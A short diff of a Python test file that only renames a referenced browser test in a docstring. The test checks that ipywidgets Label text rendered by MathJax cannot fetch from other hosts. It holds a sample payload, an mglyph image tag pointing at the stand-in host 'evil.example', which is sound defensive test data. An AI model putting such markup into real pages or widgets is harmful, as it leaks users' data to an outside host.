@@ -332,7 +332,7 @@ def test_private_widget_state_holds_no_scheme_less_url_to_another_host(url: str)
 def test_private_widget_text_holds_no_math_that_fetches() -> None:
     """ipywidgets typesets a Label's value and every description with MathJax,
     where ``\\mmlToken{mglyph}[src=...]`` is an image loaded from any host
-    (tests/browser/test_private_diagrams_and_math.py attacks it in a Lab)."""
+    (tests/browser/test_private_outputs_in_a_plain_lab.py attacks it in a Lab)."""
     glyph = '$\\mmlToken{mglyph}[src="//evil.example/?d=1"]{}$'
     st = state("LabelModel", value="total " + glyph, description="rows " + glyph)
     w = WidgetComms()
